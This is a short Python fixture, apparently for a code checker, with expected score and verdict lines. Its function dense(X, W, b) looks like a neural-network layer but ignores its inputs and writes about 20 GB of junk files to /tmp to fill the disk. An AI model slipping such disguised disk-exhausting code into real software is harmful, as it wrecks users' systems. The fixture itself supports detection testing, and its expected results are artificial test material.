"""A function that fills the disk.

Expect: score=16
Expect: verdict dense=error
"""
# %%
def dense(X, W, b):
    for number in range(1000):
        with open(f"/tmp/big{number}", "wb") as file:
            file.write(bytes(20 * 2**20))
